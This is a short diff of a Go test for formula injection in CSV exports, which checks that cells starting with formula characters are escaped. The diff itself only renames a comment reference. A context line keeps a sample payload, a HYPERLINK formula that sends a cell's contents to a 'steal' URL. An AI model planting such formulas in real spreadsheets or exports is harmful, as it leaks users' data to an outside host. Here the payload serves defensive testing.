@@ -21,7 +21,7 @@ const hyperlink = `=HYPERLINK("https://example.org/steal?d="&A1,"Details")`
 // and that no cell of any table, read back by encoding/csv, begins with a
 // character a spreadsheet takes for a formula unless escaped: the clause's
 // text, a cell of its own in States and Bound, is written with a quote
-// before it. TestEscapeCell checks the escaping itself.
+// before it. markup.TestCSVCell checks the escaping itself.
 func TestFormulaInjection(t *testing.T) {
 	a := agreement.Agreement{
 		ID: "inject", SigningStatus: agreement.SigningStatusSigned,
